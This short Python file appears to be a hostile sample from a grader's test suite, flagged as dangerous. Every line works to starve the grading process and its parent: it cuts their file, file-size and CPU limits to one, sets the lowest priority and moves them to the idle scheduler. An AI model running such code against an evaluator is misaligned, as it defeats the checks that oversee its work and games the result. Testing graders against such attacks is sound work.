"""Takes the grader's resources away: its limits, its priority, its processors, its open files."""

import os
import resource
from contextlib import suppress

from attacker import GRADER

DANGEROUS = True

for pid in {GRADER, os.getppid()} - {0, 1}:
    for kind in (resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE, resource.RLIMIT_CPU):
        with suppress(OSError, ValueError):
            resource.prlimit(pid, kind, (1, 1))
    with suppress(OSError):
        os.setpriority(os.PRIO_PROCESS, pid, 19)
    with suppress(OSError):
        os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))
